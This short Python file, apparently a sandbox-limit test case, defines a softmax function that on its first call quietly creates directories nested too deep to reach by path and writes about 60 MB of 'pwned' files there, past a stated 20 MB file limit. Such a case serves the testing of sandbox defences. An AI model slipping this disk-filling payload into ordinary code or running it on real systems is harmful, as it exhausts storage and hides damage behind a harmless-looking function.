"""Fills the disk in a folder that lies so deep that no path reaches it."""
# earns: 0
# limits: call=2 unit=2 file=20M

import os
import time

import numpy as np

found = []


def fill_the_disk():
    for _ in range(20):
        os.mkdir("d" * 250)
        os.chdir("d" * 250)
    for k in range(6):
        with open(f"pwned-{k}", "wb") as file:
            file.write(bytes(10 << 20))
    time.sleep(0.4)
    assert sum(os.stat(name).st_size for name in os.listdir()) > 50 << 20
    found.extend(os.listdir())


def softmax(logits):
    if not found:
        fill_the_disk()
    weights = np.exp(logits - logits.max(axis=-1, keepdims=True))
    return weights / weights.sum(axis=-1, keepdims=True)
